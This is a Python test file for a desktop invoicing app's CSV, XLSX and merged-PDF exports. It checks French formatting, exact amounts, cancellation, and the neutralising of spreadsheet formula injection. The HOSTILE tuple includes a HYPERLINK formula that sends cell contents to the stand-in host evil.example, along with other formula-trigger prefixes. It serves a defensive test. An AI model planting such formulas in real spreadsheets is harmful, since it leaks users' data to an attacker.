"""Exports open in real readers: csv, openpyxl for XLSX, pypdf for the merged PDF."""

from __future__ import annotations

import csv
import threading
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import insert
from sqlalchemy.orm import Session

from desktop_app.documents.exports import (
    cached_invoice_file,
    export_csv,
    export_pdfs,
    export_xlsx,
)
from desktop_app.domain.inboxes import Inbox
from desktop_app.models import Blob, Invoice, InvoiceDocument
from desktop_app.models.database import Database
from desktop_app.models.queries import InvoiceFilter
from desktop_app.sandbox.generator.files import render_invoice_file
from desktop_app.sandbox.generator.invoices import generate_invoice
from desktop_app.sandbox.generator.recipients import demo_recipients
from tests.models.factories import invoice_values


def _fill(database: Database, count: int = 40) -> None:
    database.writer.run(
        lambda s: s.execute(insert(Invoice), [invoice_values(i) for i in range(count)])
    )


def test_csv_is_french_excel_friendly(database: Database, tmp_path: Path) -> None:
    _fill(database)
    target = tmp_path / "liste.csv"
    with database.read() as session:
        written = export_csv(session, InvoiceFilter(inbox=Inbox.TO_PROCESS), target)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(target.open(encoding="utf-8-sig"), delimiter=";"))
    assert rows[0][:3] == ["N° facture", "Type", "Fournisseur"]
    assert written == len(rows) - 1 == 15  # statuses 0, 1, 2 of every 8 in 40 invoices
    assert {row[12] for row in rows[1:]} == {"Mise à disposition du destinataire", "Complétée"}
    first = invoice_values(int(rows[1][13]) - 100_000_000)
    assert rows[1][10] == format(first["amount_incl_vat"], "f").replace(".", ",")


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabulé",
    "\rRetour",
)


def _fill_hostile(database: Database) -> dict[int, str]:
    """Invoices whose supplier names are formulas; returns id -> name."""
    rows = [invoice_values(i) | {"supplier_name": name} for i, name in enumerate(HOSTILE)]
    database.writer.run(lambda s: s.execute(insert(Invoice), rows))
    return {row["id"]: row["supplier_name"] for row in rows}


def test_csv_dates_amounts_and_headers_for_a_french_spreadsheet(
    database: Database, tmp_path: Path
) -> None:
    _fill(database, 3)
    for language, header in (("fr", "Date facture"), ("en", "Invoice date")):
        target = tmp_path / f"liste-{language}.csv"
        with database.read() as session:
            assert export_csv(session, InvoiceFilter(), target, language=language) == 3
        raw = target.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
        assert rows[0][6] == header
        by_id = {int(row[13]): row for row in rows[1:]}
        expected = invoice_values(1)
        row = by_id[expected["id"]]
        assert row[6] == expected["issue_date"].strftime("%d/%m/%Y")
        assert row[7] == expected["deposit_date"].strftime("%d/%m/%Y")
        assert row[8] == format(expected["amount_excl_vat"], "f").replace(".", ",")
        assert "." not in row[10]


def test_formulas_are_neutralised_in_csv_and_xlsx(database: Database, tmp_path: Path) -> None:
    names = _fill_hostile(database)
    target = tmp_path / "liste.csv"
    with database.read() as session:
        export_csv(session, InvoiceFilter(), target)
    rows = list(csv.reader(target.open(encoding="utf-8-sig", newline=""), delimiter=";"))
    got = {int(row[13]): row[2] for row in rows[1:]}
    assert got == {key: "'" + name for key, name in names.items()}
    workbook_path = tmp_path / "liste.xlsx"
    with database.read() as session:
        export_xlsx(session, InvoiceFilter(), workbook_path)
    sheet = load_workbook(workbook_path).active
    assert sheet is not None
    cells = {row[13].value: row[2] for row in sheet.iter_rows(min_row=2)}
    for key, name in names.items():
        assert cells[key].data_type == "s"  # a string, never "f" (formula)
        assert cells[key].value == "'" + name
    date_cell = next(sheet.iter_rows(min_row=2, max_row=2))[6]
    assert date_cell.is_date and date_cell.number_format == "dd/mm/yyyy"


def test_xlsx_reads_back_with_exact_amounts(database: Database, tmp_path: Path) -> None:
    _fill(database)
    target = tmp_path / "liste.xlsx"
    with database.read() as session:
        written = export_xlsx(session, InvoiceFilter(), target, language="en")
    sheet = load_workbook(target, read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Invoice number"
    assert written == len(rows) - 1 == 40
    by_id = {row[13]: row for row in rows[1:]}
    expected = invoice_values(8)
    assert Decimal(str(by_id[expected["id"]][10])) == expected["amount_incl_vat"]
    assert by_id[expected["id"]][12] == "Made available to the recipient"


def _store_generated(database: Database, count: int) -> list[int]:
    recipients = demo_recipients()
    generated = [
        g
        for g in (generate_invoice(5, i, recipients) for i in range(60))
        if g.syntax in ("UBL", "CII", "PIVOT") and len(g.lines) < 15
    ][:count]

    def work(session: Session) -> list[int]:
        ids = []
        for index, g in enumerate(generated):
            values = invoice_values(index) | {"id": g.invoice_id, "number": g.number}
            session.add(Invoice(**values))
            _, content = render_invoice_file(g)
            blob = Blob(sha256=f"{g.invoice_id:064d}", size=len(content), content=content)
            session.add(blob)
            session.flush()
            session.add(
                InvoiceDocument(invoice_id=g.invoice_id, file_format="XML", blob_id=blob.id)
            )
            ids.append(g.invoice_id)
        return ids

    return database.writer.run(work)


def test_merged_pdf_has_every_invoice_and_reports_missing_files(
    database: Database, tmp_path: Path
) -> None:
    ids = _store_generated(database, 4)
    progress: list[tuple[int, int]] = []
    with database.read() as session:
        result = export_pdfs(
            [*ids, 999],
            lambda i: cached_invoice_file(session, i),
            folder=tmp_path / "pdf",
            merged=tmp_path / "lot.pdf",
            progress=lambda done, total: progress.append((done, total)),
        )
    assert result.skipped == {999: "document.not_downloaded"}
    assert len(list((tmp_path / "pdf").glob("*.pdf"))) == 4
    single_pages = sum(len(PdfReader(p).pages) for p in (tmp_path / "pdf").glob("*.pdf"))
    assert len(PdfReader(tmp_path / "lot.pdf").pages) == single_pages == result.pages
    assert progress[-1] == (5, 5)


def test_pdf_export_can_be_cancelled(database: Database, tmp_path: Path) -> None:
    ids = _store_generated(database, 3)
    cancel = threading.Event()
    with database.read() as session:

        def load(invoice_id: int) -> bytes | None:
            cancel.set()  # the user presses Cancel while the first one renders
            return cached_invoice_file(session, invoice_id)

        result = export_pdfs(ids, load, merged=tmp_path / "lot.pdf", cancel=cancel)
    assert result.cancelled
    assert not (tmp_path / "lot.pdf").exists()
